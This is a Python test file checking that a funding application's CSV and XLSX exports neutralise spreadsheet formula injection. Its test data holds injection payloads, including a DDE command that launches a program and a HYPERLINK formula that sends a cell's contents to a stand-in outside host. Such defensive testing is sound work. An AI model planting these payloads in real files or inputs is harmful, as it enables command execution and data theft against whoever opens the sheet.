"""What somebody has typed starts no formula in the file somebody else opens: CSV guarded, XLSX as text."""

import csv
import io
import zipfile
from xml.etree import ElementTree

import pytest

from tests.web.scene import Person
from vorort.core.sheets import guarded, unguarded
from vorort.funding.models import Application, FlatRate

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # full width: spreadsheets in East Asian locales calculate these too
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://fremd.example/?"&A1;"Klick")',
)
HARMLESS = ("Treff = Ort", "5 - 3", "a@b.example", "'n Treff", "")
STARTS = tuple("=+-@\t\r\n＝＋－＠")
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_gets_an_apostrophe_and_loses_it_when_it_is_read_back(text):
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_words_stay_as_they_are(text):
    assert guarded(text) == text
    assert unguarded(text) == text


def cells_of(person: Person, path: str) -> list[str]:
    answer = person.get(path)
    content = b"".join(answer) if answer.streaming else answer.content
    lines = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
    return [cell for line in lines for cell in line]


@pytest.mark.parametrize("text", FORMULAS)
def test_title_of_an_application_starts_no_formula_in_the_list(scene, text):
    Application.objects.filter(pk=scene.applications["submitted"].pk).update(title=text)
    cells = cells_of(scene.clerk, "/foerderung/liste.csv?stand=alle")
    assert f"'{text}" in cells
    assert [cell for cell in cells if cell.startswith(STARTS)] == []


def test_workbook_of_the_list_holds_every_title_as_a_text(scene):
    rows = list(scene.applications.values())
    for text, row in zip(FORMULAS, rows, strict=False):
        Application.objects.filter(pk=row.pk).update(title=text)
    answer = scene.lead.get("/foerderung/liste.xlsx?stand=alle")
    with zipfile.ZipFile(io.BytesIO(b"".join(answer))) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    assert sheet.findall(f".//{MAIN}f") == []
    kinds = {"".join(cell.itertext()): cell.get("t") for cell in sheet.iter(f"{MAIN}c")}
    assert [text for text in FORMULAS if text.isprintable() and kinds.get(text) != "inlineStr"] == []


@pytest.mark.parametrize("text", FORMULAS)
def test_label_of_a_rate_starts_no_formula_in_the_table_of_the_version(scene, text):
    FlatRate.objects.filter(component__guideline=scene.desk.version).update(label=text)
    cells = cells_of(scene.owner, scene.path("funding:guideline_table", "draft"))
    assert f"'{text}" in cells
    assert [cell for cell in cells if cell.startswith(STARTS)] == []
